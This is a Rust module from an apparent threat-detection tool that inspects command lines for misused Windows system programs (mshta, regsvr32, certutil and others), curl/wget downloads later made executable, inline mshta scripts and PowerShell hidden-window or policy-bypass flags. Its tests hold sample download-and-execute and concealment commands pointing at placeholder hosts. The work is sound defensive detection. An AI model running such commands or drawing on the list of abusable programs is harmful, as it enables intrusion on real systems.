//! Command lines: the program they start, the flags that conceal, the system programs that are misused.

use crate::names::base;
use crate::scan;
use strongroom_model::Observable;

/// Programs of the system that fetch or run what a URL names.
const PROXIES: [&str; 12] = [
    "mshta",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "rundll32",
    "msiexec",
    "wscript",
    "cscript",
    "installutil",
    "hh",
    "cmstp",
    "msbuild",
];

/// Programs that fetch what a URL names and do nothing else.
const FETCHERS: [&str; 2] = ["curl", "wget"];

/// Returns the URLs that `curl` and `wget` are given in a shell's command line, in order.
pub(super) fn fetched(command: &str) -> Vec<Observable> {
    let parts = command.split([';', '&', '|', '\n', '(', ')', '`']);
    let fetches =
        parts.filter(|part| FETCHERS.contains(&program(part.trim_start_matches(['"', '\''])).as_str()));
    fetches.flat_map(scan::urls).map(|seen| seen.observable).collect()
}

/// Returns a command line in which what parts commands and words stands only where it does: an unknown part is an
/// expression of the script, whose own brackets and blanks are none of the shell's.
pub(super) fn shell_text(command: &str) -> String {
    let mut unknown = false;
    let keep = |c: char| {
        match c {
            '⟨' => unknown = true,
            '⟩' => unknown = false,
            _ => {}
        }
        let parts = matches!(c, ';' | '&' | '|' | '(' | ')' | '`' | '"' | '\'') || c.is_whitespace();
        if unknown && parts { '_' } else { c }
    };
    command.chars().map(keep).collect()
}

/// Returns the files that `curl` and `wget` write, as the line names them, in order.
pub(super) fn fetched_to(command: &str) -> Vec<&str> {
    let parts = command.split([';', '&', '|', '\n']);
    let output = |part: &'_ str| -> Option<(usize, usize)> {
        let at = part.as_ptr() as usize - command.as_ptr() as usize;
        let mut words = words(part).peekable();
        let own = program(words.next()?.1.trim_start_matches(['"', '\'', '(']));
        let fetches = match own.as_str() {
            "curl" => |word: &str| word == "--output" || short_flag(word, 'o'),
            "wget" => |word: &str| word == "--output-document" || short_flag(word, 'O'),
            _ => return None,
        };
        while let Some((_, word)) = words.next() {
            if fetches(word) {
                let (start, file) = words.next()?;
                return Some((at + start, at + start + file.len()));
            }
        }
        None
    };
    let places: Vec<(usize, usize)> = parts.filter_map(output).collect();
    places
        .into_iter()
        .filter_map(|(start, end)| command.get(start..end))
        .map(|file| file.trim_matches(['"', '\'']))
        .collect()
}

/// Returns whether a word is one or more short flags of which this one is last: `-o`, `-sko`.
fn short_flag(word: &str, flag: char) -> bool {
    word.strip_prefix('-')
        .is_some_and(|flags| !flags.starts_with('-') && flags.ends_with(flag))
}

/// Returns the words of a line with their first bytes.
fn words(line: &str) -> impl Iterator<Item = (usize, &str)> {
    let blank = |c: char| c.is_whitespace();
    line.split(blank)
        .filter(|word| !word.is_empty())
        .map(move |word| (word.as_ptr() as usize - line.as_ptr() as usize, word))
}

/// Returns whether a line makes a file executable, or starts it: some part of it names the file and does not fetch it.
pub(super) fn runs_file(command: &str, file: &str) -> bool {
    let parts = command.split([';', '&', '|', '\n']);
    let mut others = parts.filter(|part| {
        let own = program(part.trim_start_matches(['"', '\'', ' ', '(']));
        !FETCHERS.contains(&own.as_str())
            && !matches!(own.as_str(), "rm" | "del" | "ls" | "cat" | "echo" | "type")
    });
    others.any(|part| part.contains(file))
}

/// Returns the script that `mshta` is given in its command line: its language and text.
pub(super) fn inline_script(command: &str) -> Option<(&'static str, &str)> {
    let lower = command.to_ascii_lowercase();
    let at = lower.find("mshta")?;
    let named = |language: &'static str| Some((lower.get(at..)?.find(language)? + at, language));
    let (place, language) = [named("vbscript:"), named("javascript:")]
        .into_iter()
        .flatten()
        .min()?;
    let code = command.get(place + language.len()..)?.trim();
    let code = code.strip_suffix('"').unwrap_or(code);
    Some((language.trim_end_matches(':'), code))
}

/// Returns the program's name in lower case, without its folder and `.exe`.
pub(super) fn program(command: &str) -> String {
    let command = command.trim_start();
    let first = match command.strip_prefix('"') {
        Some(quoted) => quoted.split('"').next().unwrap_or(""),
        None => command.split_whitespace().next().unwrap_or(""),
    };
    let name = base(first).to_ascii_lowercase();
    name.strip_suffix(".exe")
        .or_else(|| name.strip_suffix(".com"))
        .unwrap_or(&name)
        .to_owned()
}

/// Returns the misused system program and the URL that it is given: both stand in one command of the line.
pub(super) fn proxy(command: &str) -> Option<(&'static str, Observable)> {
    commands(command).into_iter().find_map(|part| {
        let url = scan::urls(part).next()?.observable;
        let words = part.split([' ', '"', '\'', '&', '|', '(', ')']).map(program);
        let found = words
            .into_iter()
            .find_map(|word| PROXIES.iter().find(|proxy| **proxy == word))?;
        Some((*found, url))
    })
}

/// Cuts a line at what parts commands outside quotes.
fn commands(line: &str) -> Vec<&str> {
    let (mut parts, mut from, mut quoted) = (Vec::new(), 0, false);
    for (at, c) in line.char_indices() {
        quoted ^= c == '"';
        if !quoted && matches!(c, '&' | '|' | ';' | '\n') {
            parts.extend(line.get(from..at));
            from = at + 1;
        }
    }
    parts.extend(line.get(from..));
    parts
}

/// Returns whether a PowerShell command line hides its window.
pub(super) fn hides_window(command: &str) -> bool {
    has_flag(command, |flag, value| {
        is_flag(flag, "windowstyle", 1) && (value == "hidden" || value == "1" || value.starts_with("hid"))
    })
}

/// Returns whether a PowerShell command line sets the execution policy aside.
pub(super) fn bypasses(command: &str) -> bool {
    has_flag(command, |flag, value| {
        (is_flag(flag, "executionpolicy", 2) || flag == "-ep")
            && (value.starts_with("byp") || value.starts_with("unr"))
    })
}

/// Returns whether a word and the next of a line, in lower case, are such a flag and its value. The marks that part or
/// disguise words are blanks.
fn has_flag(command: &str, is_it: impl Fn(&str, &str) -> bool) -> bool {
    let lower = command.to_ascii_lowercase();
    let parts = |c: char| matches!(c, ':' | '=' | '\'' | '"' | '^' | '`') || c.is_whitespace();
    let words = lower.split(parts).filter(|word| !word.is_empty());
    let next = words.clone().skip(1);
    words.zip(next).any(|(flag, value)| is_it(flag, value))
}

/// PowerShell takes any beginning of a parameter's name that tells it from the others.
fn is_flag(word: &str, name: &str, least: usize) -> bool {
    let Some(flag) = word.strip_prefix(['-', '/', '\u{2013}', '\u{2014}']) else {
        return false;
    };
    flag.len() >= least && name.starts_with(flag)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn concealing_flags_are_read_in_every_shortened_form() {
        assert!(hides_window("powershell -w hidden -c x"));
        assert!(hides_window("powershell.exe -WindowStyle:Hidden"));
        assert!(!hides_window("powershell -File hidden.ps1"));
        assert!(bypasses("powershell -ExecutionPolicy Bypass -f x"));
        assert!(bypasses("pwsh -ep bypass"));
        assert!(!bypasses("powershell -ExecutionPolicy RemoteSigned"));
    }

    #[test]
    fn what_a_shell_fetches_is_found_in_each_part_of_its_line() {
        let urls = fetched(
            "curl -o /tmp/a https://a.example/x && chmod +x /tmp/a; sh -c \"wget http://b.example/y\"",
        );
        assert_eq!(urls.first().map(Observable::value), Some("https://a.example/x"));
        assert!(fetched("echo https://a.example/x").is_empty());
    }

    #[test]
    fn an_unknown_name_is_one_word() {
        let line = shell_text("curl -o /tmp/⟨Chr(97 + Int(Rnd() * 26))⟩×13 https://a.example/x");
        assert_eq!(fetched(&line).len(), 1);
        let file = fetched_to(&line);
        assert_eq!(file.len(), 1);
        assert!(runs_file(
            &shell_text("chmod +x /tmp/⟨Chr(97 + Int(Rnd() * 26))⟩×13"),
            file[0]
        ));
        assert!(!runs_file(&shell_text("chmod +x /tmp/⟨Chr(98)⟩×13"), file[0]));
    }

    #[test]
    fn what_is_fetched_is_followed_to_what_runs_it() {
        let line = "curl -sko \"/tmp/a b\" x; curl -s -o /tmp/q https://a.example/ && chmod +x /tmp/q";
        assert_eq!(fetched_to(line).last(), Some(&"/tmp/q"));
        assert!(runs_file(line, "/tmp/q"));
        assert!(!runs_file(
            "curl -o /tmp/q https://a.example/; rm /tmp/q",
            "/tmp/q"
        ));
        assert_eq!(fetched_to("wget -qO /tmp/w https://a.example/"), ["/tmp/w"]);
        assert!(fetched_to("echo -o /tmp/q").is_empty());
    }

    #[test]
    fn a_script_in_a_command_line_is_found() {
        let (language, code) = inline_script("\"C:\\x\\mshta.exe\" \"vbscript:Execute(\"\"x\"\")\"").unwrap();
        assert_eq!((language, code), ("vbscript", "Execute(\"\"x\"\")"));
        assert!(inline_script("mshta https://a.example/x.hta").is_none());
        assert!(inline_script("echo vbscript:x").is_none());
    }

    #[test]
    fn misused_programs_are_found_with_their_url() {
        let (name, url) =
            proxy("cmd /c \"C:\\Windows\\System32\\mshta.exe\" https://a.example/x.hta").unwrap();
        assert_eq!((name, url.value()), ("mshta", "https://a.example/x.hta"));
        assert!(proxy("explorer https://a.example/").is_none());
        assert!(proxy("start https://a.example/ & msiexec /i own.msi").is_none());
        assert!(proxy("cmd /c \"echo x & mshta https://a.example/?b=1&c\"").is_some());
        assert_eq!(program("\"C:\\a b\\X.EXE\" /q"), "x");
    }
}
